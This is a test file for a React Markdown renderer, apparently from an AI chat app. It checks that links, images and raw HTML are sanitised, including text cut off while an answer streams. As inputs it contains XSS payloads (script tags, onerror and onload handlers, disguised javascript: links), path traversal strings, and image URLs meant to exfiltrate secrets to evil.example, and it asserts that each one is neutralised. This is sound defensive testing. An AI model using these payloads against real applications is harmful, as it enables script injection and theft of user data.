import { render, screen } from "@testing-library/react";
import { createMemoryRouter, RouterProvider } from "react-router";
import { describe, expect, it } from "vitest";
import { Markdown } from "./markdown";

function renderMarkdownIn(text: string, sources?: { url: string; title?: string }[]) {
  const router = createMemoryRouter([{ path: "*", element: <Markdown sources={sources}>{text}</Markdown> }]);
  return render(<RouterProvider router={router} />);
}

function renderMarkdown(text: string, sources?: { url: string; title?: string }[]) {
  renderMarkdownIn(text, sources);
}

describe("markdown", () => {
  it("renders GitHub-flavoured markdown", () => {
    renderMarkdown("**bold** and ~~gone~~\n\n| a | b |\n| - | - |\n| 1 | 2 |");
    expect(screen.getByText("bold").tagName).toBe("STRONG");
    expect(screen.getByText("gone").tagName).toBe("DEL");
    expect(screen.getByRole("table")).toBeTruthy();
  });

  it("turns javascript: and other schemes into an inert '#'", () => {
    renderMarkdown("[click](javascript:alert(1)) [data](data:text/html,hi) [mail](mailto:a@b.c)");
    expect(screen.getByRole("link", { name: "click" }).getAttribute("href")).toBe("#");
    expect(screen.getByRole("link", { name: "click" }).getAttribute("target")).toBeNull();
    expect(screen.getByRole("link", { name: "data" }).getAttribute("href")).toBe("#");
    expect(screen.getByRole("link", { name: "mail" }).getAttribute("href")).toBe("mailto:a@b.c");
  });

  it("opens web links in a new tab and keeps in-app links in the app", () => {
    renderMarkdown("[web](https://example.com) and [help](/help/chat-basics)");
    const web = screen.getByRole("link", { name: "web" });
    expect(web.getAttribute("target")).toBe("_blank");
    expect(web.getAttribute("rel")).toBe("noopener noreferrer");
    const help = screen.getByRole("link", { name: "help" });
    expect(help.getAttribute("href")).toBe("/help/chat-basics");
    expect(help.getAttribute("target")).toBeNull();
  });

  it("shows citation markers as small numbers, but not inside code", () => {
    const { container } = render(<Markdown>{"Pick Qwen [1], or `arr[2]`."}</Markdown>);
    expect(container.querySelector("sup.citation")?.textContent).toBe("1");
    expect(container.querySelectorAll("sup.citation")).toHaveLength(1);
    expect(container.querySelector("code")?.textContent).toBe("arr[2]");
  });

  it("links each citation to its source by the same link rules, and leaves unknown ones plain", () => {
    renderMarkdown("Tides [1], handbook [2], trick [3] and more [4], but `x[1]`.", [
      { url: "https://tides.example/kestrel", title: "Kestrel tides" },
      { url: "/dashboard/documents/d1", title: "Handbook" },
      { url: "javascript:alert(1)", title: "Trick" },
    ]);
    const web = screen.getByRole("link", { name: "1" });
    expect(web.getAttribute("href")).toBe("https://tides.example/kestrel");
    expect(web.getAttribute("target")).toBe("_blank");
    expect(web.getAttribute("title")).toBe("Kestrel tides");
    expect(web.querySelector("sup.citation")).toBeTruthy();
    expect(screen.getByRole("link", { name: "2" }).getAttribute("href")).toBe("/dashboard/documents/d1");
    expect(screen.getByRole("link", { name: "3" }).getAttribute("href")).toBe("#");
    expect(screen.queryByRole("link", { name: "4" })).toBeNull();
    expect(screen.getByText("4").tagName).toBe("SUP");
    expect(screen.getAllByRole("link")).toHaveLength(3);
  });

  it("shows pictures only from the files the app stores, and names the others without fetching them", () => {
    const { container } = renderMarkdownIn(
      [
        "![chart](/files/u1/chart.png)",
        "![outside](http://127.0.0.2:9/exfil?c=secret)",
        "![proxied](/api/image-proxy?url=http%3A%2F%2Fevil.example%2F%3Fc%3Dsecret)",
        "![dotted](/files/../api/image-proxy?url=http://evil.example/)",
        "![encoded](/files/..%2fapi/image-proxy?url=http%3A%2F%2Fevil.example%2F)",
        "![backslash](/files/..%5Capi/auth/sign-out)",
        "![twice](/files/%252e%252e/api/image-proxy?url=http://evil.example/)",
        "![relative](//evil.example/x.png)",
        "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)",
        "![ref][pic]",
        "",
        "[pic]: https://evil.example/ref.png",
      ].join("\n"),
    );
    const images = [...container.querySelectorAll("img")];
    expect(images.map((img) => img.getAttribute("src"))).toEqual(["/files/u1/chart.png"]);
    for (const name of [
      "outside",
      "proxied",
      "dotted",
      "encoded",
      "backslash",
      "twice",
      "relative",
      "svg",
      "ref",
    ])
      expect(screen.getByText(`[${name}]`).tagName).toBe("SPAN");
  });

  it("shows raw HTML as text: no script, handler, frame, form or style reaches the page", () => {
    const html = [
      "<script>window.__pwned=1</script>",
      '<img src=x onerror="window.__pwned=2">',
      '<svg onload="window.__pwned=3"><script>window.__pwned=4</script></svg>',
      '<iframe src="https://evil.example/"></iframe>',
      '<form action="https://evil.example/"><button>Go</button></form>',
      '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
      "<style>body{background:url(https://evil.example/bg)}</style>",
      '<a href="javascript:alert(1)">html link</a>',
    ];
    const { container } = renderMarkdownIn(html.join("\n\n"));
    const forbidden = "script, img, svg, iframe, form, meta, style, a, button";
    expect(container.querySelectorAll(forbidden)).toHaveLength(0);
    const handlers = [...container.querySelectorAll("*")].flatMap((el) =>
      el.getAttributeNames().filter((name) => name.startsWith("on") || name === "style"),
    );
    expect(handlers).toEqual([]);
    for (const tag of html) expect(container.textContent).toContain(tag);
  });

  it("keeps HTML in code as literal text", () => {
    const { container } = renderMarkdownIn(
      "Inline `<script>alert(1)</script>` and:\n\n```html\n<img src=x onerror=alert(2)>\n```",
    );
    const code = [...container.querySelectorAll("code")].map((c) => c.textContent);
    expect(code).toEqual(["<script>alert(1)</script>", "<img src=x onerror=alert(2)>\n"]);
    expect(container.querySelector("img, script")).toBeNull();
  });

  it("makes disguised script links inert: case, entities, whitespace, references and autolinks", () => {
    renderMarkdownIn(
      [
        "[case](JaVaScRiPt:alert(1))",
        "[entity](&#106;avascript&colon;alert(1))",
        "[tab](<java\tscript:alert(1)>)",
        "[newline](java&#10;script:alert(1))",
        "[vb](vbscript:msgbox(1))",
        "[svg](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
        "[ref][evil]",
        "<javascript:alert(1)>",
      ].join(" ") + "\n\n[evil]: javascript:alert(1)",
    );
    const links = screen.getAllByRole("link");
    expect(links.map((a) => a.textContent)).toEqual([
      "case",
      "entity",
      "tab",
      "newline",
      "vb",
      "svg",
      "ref",
      "javascript:alert(1)",
    ]);
    for (const link of links) {
      expect(link.getAttribute("href")).toBe("#");
      expect(link.getAttribute("aria-disabled")).toBe("true");
    }
  });

  it("shows an answer cut anywhere while it streams without its markers as text", () => {
    const answer =
      "For code, pick **Qwen 3 Coder**: it runs `npm test` well.\n\n```ts\nconst a = [1, 2];\n```\n\n" +
      "See [the docs](https://example.com/docs) ~~today~~.";
    for (let end = 1; end <= answer.length; end++) {
      const { container, unmount } = render(<Markdown caret>{answer.slice(0, end)}</Markdown>);
      const text = container.textContent ?? "";
      for (const marker of ["**", "~~", "`", "](", "https:"])
        expect(text, answer.slice(0, end)).not.toContain(marker);
      if (end > answer.indexOf("**Q") + 3)
        expect(container.querySelector("strong")?.textContent).toMatch(/^Qw/);
      if (end > answer.indexOf("ts\n")) expect(container.querySelector("pre code")).not.toBeNull();
      unmount();
    }
    // Once it has ended the text is shown as it is, markers and all.
    const { container } = render(<Markdown>{"Stopped in **the mid"}</Markdown>);
    expect(container.textContent).toBe("Stopped in **the mid");
  });

  it("renders an answer cut mid-tag while it streams as text at every step", () => {
    const answer = 'Before <img src=x onerror="window.__pwned=1"> after `<script>x</script>`';
    for (let end = 1; end <= answer.length; end++) {
      const { container, unmount } = render(<Markdown caret>{answer.slice(0, end)}</Markdown>);
      expect(container.querySelector("img, script, [onerror]")).toBeNull();
      unmount();
    }
  });

  it("never links to a web address cut short while it streams", () => {
    const answer =
      "See [the outside page][away] and [this](https://example.com/a).\n\n[away]: https://example.com/x";
    for (let end = 1; end <= answer.length; end++) {
      const { container, unmount } = render(<Markdown caret>{answer.slice(0, end)}</Markdown>);
      for (const link of container.querySelectorAll("a")) {
        const href = link.getAttribute("href")!;
        if (href !== "#") expect(() => new URL(href), answer.slice(0, end)).not.toThrow();
      }
      unmount();
    }
    const { container } = render(<Markdown>{"[away][x]\n\n[x]: https://"}</Markdown>);
    expect(container.querySelector("a")?.getAttribute("href")).toBe("#");
  });
});
